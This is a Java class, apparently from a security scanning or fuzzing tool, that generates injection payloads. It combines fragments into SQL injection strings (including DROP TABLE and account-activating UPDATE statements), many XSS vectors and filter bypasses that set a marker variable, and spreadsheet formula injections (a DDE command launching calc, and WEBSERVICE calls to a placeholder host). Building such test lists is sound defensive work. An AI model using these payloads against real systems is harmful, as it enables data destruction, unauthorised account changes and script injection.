package org.caunoi.sweep;

import java.util.ArrayList;
import java.util.List;

/** Texts that do harm where they are taken for more than texts; put together, not copied. */
final class Payloads {

  private Payloads() {}

  /** Ends of a text, what is asked then, and how the rest is silenced. */
  static List<String> sql() {
    List<String> all = new ArrayList<>();
    for (String begin :
        List.of(
            "", "'", "''", "\"", "`", "\\'", "')", "'))", "0", "-1", "$1", ":code", "{}'", "%27")) {
      for (String ask :
          List.of(
              " OR 1=1",
              " OR 'a'='a",
              " AND 1=2",
              " AND 1=(SELECT 1 FROM pg_sleep(3))",
              ";SELECT pg_sleep(3)",
              "||pg_sleep(3)||",
              " UNION SELECT NULL,NULL,NULL",
              " UNION ALL SELECT usename FROM pg_user",
              ";DROP TABLE dossier.act",
              ";UPDATE access.account SET active=true",
              " AND CAST(version() AS int)=1",
              " ORDER BY 99",
              " LIMIT 0 OFFSET 1",
              "::int",
              " RETURNING *")) {
        for (String end : List.of("", "--", "/*", "--\u00a0", ";--", "#")) {
          all.add(begin + ask + end);
        }
      }
    }
    return all;
  }

  /** Ways into a page, each of which would set {@code window.xss}. */
  static List<String> scripts() {
    List<String> all = new ArrayList<>();
    for (String close :
        List.of(
            "",
            "\">",
            "'>",
            "</textarea>",
            "</title>",
            "</script>",
            "-->",
            "]]>",
            "\" ",
            "' ",
            "</p></dd>",
            "&quot;>")) {
      for (String tag :
          List.of(
              "<script>window.xss=1</script>",
              "<ScRiPt>window.xss=1</sCrIpT>",
              "<script src=data:,window.xss=1></script>",
              "<script/x>window.xss=1</script>",
              "<script type=module>window.xss=1</script>",
              "<img src=x onerror=window.xss=1>",
              "<img src=x onerror='window.xss=1'>",
              "<img/src=x/onerror=window.xss=1>",
              "<svg onload=window.xss=1>",
              "<svg><script>window.xss=1</script></svg>",
              "<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>",
              "<body onload=window.xss=1>",
              "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
              "<iframe src=javascript:parent.xss=1></iframe>",
              "<a href=javascript:window.xss=1>a</a>",
              "<a href='jav&#x09;ascript:window.xss=1'>a</a>",
              "<input autofocus onfocus=window.xss=1>",
              "<details open ontoggle=window.xss=1>",
              "<video><source onerror=window.xss=1></video>",
              "<audio src=x onerror=window.xss=1>",
              "<object data=javascript:window.xss=1></object>",
              "<embed src=javascript:window.xss=1>",
              "<math><mtext><script>window.xss=1</script>",
              "<style>@import'javascript:window.xss=1'</style>",
              "<link rel=stylesheet href=javascript:window.xss=1>",
              "<meta http-equiv=refresh content='0;url=javascript:window.xss=1'>",
              "<base href=javascript:window.xss=1//>",
              "<form action=javascript:window.xss=1><button>x</button></form>",
              "<button formaction=javascript:window.xss=1>x</button>",
              "<template><script>window.xss=1</script></template>",
              "<noscript><p title='</noscript><img src=x onerror=window.xss=1>'>",
              "<div hx-on:load='window.xss=1' hx-get=/ hx-trigger=load>x</div>",
              "<div hx-vals='js:{a:window.xss=1}' hx-get=/ hx-trigger=load>x</div>",
              "<div style='background:url(javascript:window.xss=1)'>x</div>",
              "<marquee onstart=window.xss=1>x</marquee>",
              "<keygen autofocus onfocus=window.xss=1>",
              "onmouseover=window.xss=1 ",
              "onfocus=window.xss=1 autofocus ",
              "javascript:window.xss=1",
              "${window.xss=1}",
              "{{constructor.constructor('window.xss=1')()}}",
              "<%= window.xss=1 %>",
              "@{window.xss=1}",
              "<!--<img src='--><img src=x onerror=window.xss=1//'>",
              "&lt;script&gt;window.xss=1&lt;/script&gt;",
              "&#60;script&#62;window.xss=1&#60;/script&#62;",
              "\\u003cscript\\u003ewindow.xss=1\\u003c/script\\u003e",
              "%3Cscript%3Ewindow.xss=1%3C/script%3E",
              "＜script＞window.xss=1＜/script＞",
              "<scr<script>ipt>window.xss=1</scr</script>ipt>")) {
        all.add(close + tag);
        all.add(close + tag.replace("<", "<\u200b"));
      }
    }
    return all;
  }

  /** Beginnings that a spreadsheet takes for a formula. */
  static List<String> formulas() {
    List<String> all = new ArrayList<>();
    for (String begin :
        List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b=",
            "'=", "\"=", ";=", ",=")) {
      for (String formula :
          List.of(
              "1+1",
              "cmd|' /C calc'!A0",
              "HYPERLINK(\"//thu.invalid\")",
              "WEBSERVICE(\"//thu.invalid\")",
              "SUM(A1:A9)",
              "DDE(\"a\";\"b\")")) {
        all.add(begin + formula);
      }
    }
    return all;
  }
}
